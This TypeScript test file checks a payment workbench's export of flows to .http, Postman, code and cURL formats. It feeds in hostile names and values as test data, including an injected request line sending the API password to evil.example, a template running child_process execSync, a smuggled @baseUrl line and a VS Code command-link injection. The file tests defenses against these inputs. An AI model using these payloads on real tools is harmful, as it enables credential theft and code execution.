import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parseFlowText, parseRequestFileAsFlow, type Flow } from '../../../src/flows';
import { exportCode, exportCurl, exportHttp, exportPostman, importFiles, ImportError, notificationText, type ExportInput } from '../../../src/interop';
import { localSimulatorEnvironment } from '../../../src/environments/environment';
import { problemsOf } from './codeTrees';

const flow = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'examples', 'flows', 'card-pay-refund.payflow.json'), 'utf8')) as { name: string; steps: { id: string; body?: Record<string, unknown> }[] };
const noFiles = (): string => {
  throw new Error('no @file here');
};

function input(): ExportInput {
  const parsed = parseFlowText(JSON.stringify(flow));
  assert.ok(parsed.ok);
  let n = 0;
  return { flow: parsed.flow, environment: { ...localSimulatorEnvironment(4477), id: 'shop-test', name: 'Shop test', simulator: false }, where: 'card-pay-refund.payflow.json', freshId: () => `ID-${++n}` };
}

/** The steps' operations and how their order ids chain, which a round trip must keep. */
const shape = (f: Flow) => f.steps.map((s) => [s.operation, s.version ?? null, typeof s.params?.['orderId'] === 'string' && s.params['orderId'].startsWith('{{') ? 'refers' : s.params?.['orderId'] ?? 'fresh']);

/**
 * A name that would add a request sending the password elsewhere, line breaks of every kind, a
 * directive of httpYac; in a body, what a flow file accepts and a template reader would run: a flow
 * reference whose path is JavaScript (httpYac runs what is between the braces), references with no
 * equivalent outside a run, an order reference beside a literal brace, a request line after line breaks.
 */
const HOSTILE_NAME = 'Pay\nGET https://evil.example/?p={{apiPassword}}\r\nAuthorization: Basic {{apiPassword}}\u2028###\u2029@import ./x.http\u0085# @ref x {{$processEnv HOME}} {{{x}}}';
const MARKER = 'pwned';
const HOSTILE_VALUES = [`{{pay.body.x;require('child_process').execSync('${MARKER}')}}`, '{{pay.response.order.currency}}', '{{env.name}}', '{{pay.params.orderId}}}', '}}', '\n###\nGET https://evil.example/', '\u2028\u2029\u0085'];

function hostileInput(): ExportInput {
  const steps = flow.steps.map((s) => (s.id === 'rest' ? { ...s, body: { ...s.body, transaction: { amount: '60.00', currency: 'EUR', reference: HOSTILE_VALUES.join(' ') }, [HOSTILE_VALUES.join(' ')]: HOSTILE_VALUES } } : s));
  const parsed = parseFlowText(JSON.stringify({ ...flow, steps }));
  assert.ok(parsed.ok, JSON.stringify(parsed));
  // A flow file refuses a name on more than one line; the writers must hold anyway, for the names that
  // reach them by other ways (environment names, file names), so the flow's name is set after parsing.
  return { flow: { ...parsed.flow, name: HOSTILE_NAME }, environment: { ...localSimulatorEnvironment(4477), id: 'shop-test', name: HOSTILE_NAME, simulator: false }, where: `${HOSTILE_NAME}.payflow.json`, freshId: () => 'ID-1' };
}

/** The export's own variables: nothing else may read as a template. */
const OWN_TEMPLATE = /^\{\{(baseUrl|merchantId|orderId(_[A-Za-z0-9_-]+)?|\$guid|apiPassword|\$processEnv PAYMENT_WORKBENCH_[A-Z0-9_]+)\}\}$/;
const templatesIn = (text: string) => text.match(/\{\{.*?\}\}/gs) ?? [];

describe('Export as .http and Postman, and back', () => {
  it('a flow exported as .http reads the password from the shell, holds no secret, and imports back to the same steps', () => {
    const { text } = exportHttp(input(), 'PAYMENT_WORKBENCH_SHOP_TEST_GATEWAY_API_PASSWORD');
    assert.match(text, /^@apiPassword = \{\{\$processEnv PAYMENT_WORKBENCH_SHOP_TEST_GATEWAY_API_PASSWORD\}\}$/m);
    assert.match(text, /^PUT \{\{baseUrl\}\}\/api\/rest\/version\/100\/merchant\/\{\{merchantId\}\}\/order\/\{\{orderId\}\}\/transaction\/\{\{\$guid\}\}$/m);
    assert.doesNotMatch(text, /simulator-api-password/);
    const back = importFiles([{ name: 'flow.http', text }], noFiles);
    const flowFile = back.files.find((f) => f.name.endsWith('.payflow.json'));
    assert.ok(flowFile, back.leftOut.join('\n'));
    const parsed = parseFlowText(flowFile.text);
    assert.ok(parsed.ok);
    assert.deepEqual(shape(parsed.flow), [['gateway.pay', 100, 'fresh'], ['gateway.refund', 13, 'refers'], ['gateway.refund', 100, 'refers'], ['gateway.retrieveOrder', 100, 'refers']]);
  });

  it('a flow exported for Postman is a v2.1 collection whose first step sets the order id, and an environment with the password an empty secret', () => {
    const { collection, environment } = exportPostman(input());
    const c = JSON.parse(collection) as { info: { schema: string }; item: { name: string; event?: { script: { exec: string[] } }[]; request: { auth: { type: string } } }[] };
    assert.match(c.info.schema, /collection\/v2\.1\.0/);
    assert.match(c.item[0]?.event?.[0]?.script.exec.join('') ?? '', /pm\.collectionVariables\.set\("orderId"/);
    assert.equal(c.item[0]?.request.auth.type, 'basic');
    const e = JSON.parse(environment) as { name: string; values: { key: string; value: string; type: string }[] };
    assert.equal(e.name, 'Shop test');
    assert.deepEqual(e.values.map((v) => [v.key, v.type, v.value === '' ? 'empty' : 'set']), [['baseUrl', 'default', 'set'], ['merchantId', 'default', 'set'], ['apiPassword', 'secret', 'empty']]);
  });

  it('.http: names with line breaks stay in their comment line, and values with templates or request lines stay body text', () => {
    const { text } = exportHttp(hostileInput(), 'PAYMENT_WORKBENCH_SHOP_TEST_GATEWAY_API_PASSWORD');
    const lines = text.split('\n');
    assert.deepEqual(lines.filter((l) => /^[A-Z]+ /.test(l)).map((l) => l.split(' ')[0]), ['PUT', 'PUT', 'PUT', 'GET'], 'one request line per step, none from a name');
    assert.deepEqual(lines.filter((l) => /^###/.test(l)).length, 4, 'one delimiter per step');
    assert.ok(lines.every((l) => !/^#+\s*@(?!name [A-Za-z0-9_-]+$)/.test(l)), 'no httpYac directive but the names');
    assert.ok(!/[\r\v\f\u0085\u2028\u2029]/.test(text), 'no line break of another kind');
    assert.deepEqual(templatesIn(text).filter((t) => !OWN_TEMPLATE.test(t)), [], 'every {{…}} is one of the export\'s variables');
    const back = importFiles([{ name: 'flow.http', text }], noFiles);
    const flowFile = back.files.find((f) => f.name.endsWith('.payflow.json'));
    assert.ok(flowFile, back.leftOut.join('\n'));
    const rest = (JSON.parse(flowFile.text) as { steps: { body?: { transaction?: { reference?: string } } }[] }).steps[2];
    assert.equal(rest?.body?.transaction?.reference, HOSTILE_VALUES.join(' '), 'the value reads back as the text it was');
  });

  it('Postman: hostile names and values are data: one item per step, a script that parses with the marker only in strings, no template but the export\'s own', async () => {
    const { collection, environment } = exportPostman(hostileInput());
    const c = JSON.parse(collection) as { info: { name: string }; item: { name: string; event?: { script: { exec: string[] } }[]; request: { url: { raw: string }; body?: { raw: string } } }[] };
    assert.equal(c.item.length, 4);
    assert.equal(c.info.name, HOSTILE_NAME);
    for (const item of c.item) {
      assert.deepEqual(await problemsOf('node', (item.event?.[0]?.script.exec ?? []).join('\n'), MARKER), []);
      assert.deepEqual([...templatesIn(item.request.url.raw), ...templatesIn(item.request.body?.raw ?? '')].filter((t) => !OWN_TEMPLATE.test(t)), []);
    }
    const rest = JSON.parse(c.item[2]?.request.body?.raw ?? '') as { transaction: { reference: string } };
    assert.equal(rest.transaction.reference, HOSTILE_VALUES.join(' ').replace('{{pay.params.orderId}}', '{{orderId}}'), 'the same JSON value, the order reference as the collection\'s variable');
    assert.equal((JSON.parse(environment) as { name: string }).name, HOSTILE_NAME);
  });

  it('a request file whose body names {{apiPassword}} sends that text, not the password, from .http, Postman, code and cURL', () => {
    const parsed = parseRequestFileAsFlow(JSON.stringify({ operation: 'gateway.authorize', version: 11, body: { apiOperation: 'AUTHORIZE', order: { amount: '1.00', currency: 'EUR', reference: '{{apiPassword}}' } } }), 'steal');
    assert.ok(parsed.ok);
    const given: ExportInput = { flow: parsed.flow, environment: { ...localSimulatorEnvironment(4477), id: 'shop-test', name: 'Shop test', simulator: false }, where: 'steal.payreq.json', freshId: () => 'ID-1' };
    assert.match(exportHttp(given, 'P').text, /"reference": "\\u007b\\u007bapiPassword\\u007d\\u007d"/);
    assert.match(JSON.parse(exportPostman(given).collection).item[0].request.body.raw as string, /"reference": "\\u007b\\u007bapiPassword\\u007d\\u007d"/);
    assert.match(exportCode(given, 'node', ['P']).text, /\\"reference\\": \\"\{\{apiPassword\}\}\\"/, 'a program reads no template: the text as it is');
    assert.match(exportCurl(given, 'P').text, /"reference": "\{\{apiPassword\}\}"/);
  });

  it('refuses what cannot be written safely, naming what and where: a base URL with a query, an id pattern giving characters a URL or a line would read', () => {
    const withQuery: ExportInput = { ...input(), environment: { ...input().environment, gatewayUrl: 'https://gw.example/?x={{apiPassword}}' } };
    assert.throws(() => exportHttp(withQuery, 'P'), (err: Error) => err instanceof ImportError && /environment shop-test: the gateway URL "https:\/\/gw\.example\/\?x=\{\{apiPassword\}\}" has a query/.test(err.message));
    const badIds: ExportInput = { ...input(), freshId: () => 'ORD\n@baseUrl = https://evil.example' };
    assert.throws(() => exportHttp(badIds, 'P'), (err: Error) => err instanceof ImportError && /card-pay-refund\.payflow\.json: the id pattern gave "ORD\\n@baseUrl = https:\/\/evil\.example"; an exported id is 1 to 40 letters/.test(err.message));
  });

  it('a body of a few hundred thousand lines is written whole into *.unmatched.http', () => {
    // A flow's body cannot get there (a request file holds at most 50,000 values); an imported plain body can.
    const body = '{"a": 1}\n'.repeat(300_000);
    const imported = importFiles([{ name: 'lines.http', text: `POST https://h.example/x\nContent-Type: application/json\n\n${body}` }], noFiles);
    assert.ok(imported.files.some((f) => f.name.endsWith('.unmatched.http') && f.text.includes(body.trimEnd())), 'the body, not JSON, is kept whole as a plain request');
  });

  it('a name quoted in a VS Code notification offers no link: [label](command:…) is broken, line breaks are spaces', () => {
    const { notes } = exportCode({ ...input(), flow: { ...input().flow, steps: [{ id: 'request', operation: 'gateway.retrieveOrder', params: { orderId: '[Fix it](command:workbench.action.terminal.new) {{x}}' } }] } }, 'node', ['P']);
    const shown = notificationText(`Copied node code. ${notes.join(' ')}`);
    assert.doesNotMatch(shown, /\]\(/, "VS Code reads a link only where ] and ( touch (linkedText.ts)");
    assert.match(shown, /\[Fix it\] \(command:workbench\.action\.terminal\.new\)/, 'the text stays readable');
    assert.equal(notificationText('a\nb\u2028c'), 'a b c');
  });
});
